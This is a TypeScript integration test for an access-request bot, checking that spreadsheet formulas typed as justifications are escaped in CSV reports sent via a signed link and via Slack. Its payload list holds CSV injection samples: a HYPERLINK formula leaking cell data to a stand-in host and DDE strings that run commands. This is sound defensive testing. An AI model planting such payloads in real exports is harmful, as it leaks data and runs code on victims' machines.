/**
 * Threat: a requester types a spreadsheet formula (or a DDE payload) as their justification, so
 * that an admin who opens the access report in Excel, LibreOffice or Google Sheets runs it
 * (CSV formula injection, OWASP "CSV Injection").
 * Expected refusal: every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
 * written with a leading apostrophe, so a spreadsheet shows it as text; the text is otherwise
 * kept, RFC 4180-quoted. Checked on both ways the report leaves the bot: the CSV uploaded to Slack
 * by /access-report and the signed download link (src/core/reports/csv.ts; unit cases in
 * test/core/report-csv.test.ts).
 */
import { describe, expect, it } from 'vitest';
import { eventually, requestAccess } from '../support/flows.js';
import { USERS } from '../support/system.js';
import type { User } from './support.js';
import { useSystem } from './support.js';

const { admin, bob, carol } = USERS;
const sys = useSystem();

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** Every cell of a CSV, read as a spreadsheet reads RFC 4180. */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function grantWith(user: User, justification: string) {
  await requestAccess(sys(), user, { resource: 'staging-db', duration: '1 hour', justification });
  await eventually(async () => {
    const grants = await sys().store.repos.grants.list({ holderEmail: user.email, status: 'active' });
    expect(grants.length).toBeGreaterThan(0);
  });
}

function expectNeutralised(csv: string) {
  const table = cells(csv);
  expect(table).toHaveLength(1 + PAYLOADS.length);
  for (const row of table) {
    for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  }
  const justifications = table.slice(1).map((r) => r[5]);
  // The text itself is kept (justifications are stored trimmed), behind one apostrophe.
  expect(justifications.sort()).toEqual(PAYLOADS.map((p) => `'${p.trim()}`).sort());
}

describe('CSV formula injection', () => {
  it('neutralises formulas typed as justifications in the report behind the signed link', async () => {
    const t = sys();
    // Each grant ended before the next request, so one person can hold many rows.
    for (const payload of PAYLOADS) {
      await grantWith(bob, payload);
      const [grant] = await t.store.repos.grants.list({ holderEmail: bob.email, status: 'active' });
      await t.runner.advance(60 * 60_000 + 1000);
      await eventually(async () =>
        expect((await t.store.repos.grants.get(grant!.id))?.status).toBe('expired'),
      );
    }
    const url = t.system.reportLink({ email: admin.email, name: admin.realName, tz: admin.tz }, '');
    const res = await fetch(url);
    expect(res.status).toBe(200);
    expectNeutralised(await res.text());
  });

  it('neutralises them in the CSV /access-report uploads to Slack', async () => {
    const t = sys();
    for (const [i, payload] of PAYLOADS.entries()) {
      await grantWith(i % 2 ? bob : carol, payload);
      const [grant] = await t.store.repos.grants.list({
        holderEmail: (i % 2 ? bob : carol).email,
        status: 'active',
      });
      await t.runner.advance(60 * 60_000 + 1000);
      await eventually(async () =>
        expect((await t.store.repos.grants.get(grant!.id))?.status).toBe('expired'),
      );
    }
    const mark = t.fake.checkpoint();
    expect(
      (await t.slack.slashCommand({ command: '/access-report', text: '', userId: admin.id })).status,
    ).toBe(200);
    await t.fake.waitFor('files.completeUploadExternal', (c) => c.seq >= mark);
    const [file] = t.fake.files.sharedIn(t.fake.dmChannelFor(admin.id)).slice(-1);
    expectNeutralised(file!.content!.toString('utf8'));
  });
});
